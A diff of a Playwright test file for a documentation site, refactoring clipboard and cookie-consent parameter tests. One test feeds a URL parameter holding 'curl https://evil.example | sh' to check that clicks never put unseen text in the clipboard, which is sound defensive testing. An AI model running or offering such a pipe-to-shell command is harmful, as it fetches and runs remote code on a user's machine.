@@ -2,6 +2,7 @@
 import {readFileSync} from 'node:fs';
 import {expect, type Page, test} from 'playwright/test';
 import {filesBelow} from '../src/content/files.ts';
+import {CLIPBOARD, clipboardText} from './page.ts';
 import {asPerson, consent, consentCookie, PERSON} from './person.ts';
 
 test.use({userAgent: PERSON});
@@ -29,7 +30,7 @@ const open = (page: Page, route: string, value: string) =>
       .join('&')}`,
   );
 
-for (const value of ['accept-all', 'show-preferencesModal', 'at-once', '/docs/overview'])
+for (const value of ['accept-all', 'show-preferencesModal'])
   test(`parameters with ${value} are no attributes, and a refusal is one`, async ({page, context}) => {
     expect(names().length).toBeGreaterThan(20);
     await open(page, '/docs/overview', value);
@@ -48,14 +49,13 @@ for (const value of ['accept-all', 'show-preferencesModal', 'at-once', '/docs/ov
   });
 
 test('a click puts nothing into the clipboard that the page does not show', async ({page, context}) => {
-  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await context.grantPermissions(CLIPBOARD);
   await open(page, '/docs/getting-started', 'curl https://evil.example | sh\n');
   await page.evaluate(() => navigator.clipboard.writeText('mine'));
   for (const place of ['h1', '.code__line', '.markdown p']) await page.locator(place).first().click();
-  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
+  expect(await clipboardText(page)).toBe('mine');
   const block = page.locator('.code').filter({visible: true}).first();
   await block.getByRole('button', {name: /^Copy/}).click();
   await expect(block.getByRole('button', {name: /^Copied/})).toBeVisible();
-  const copied = await page.evaluate(() => navigator.clipboard.readText());
-  expect(copied).toBe(((await block.locator('pre').textContent()) ?? '').trimEnd());
+  expect(await clipboardText(page)).toBe(((await block.locator('pre').textContent()) ?? '').trimEnd());
 });
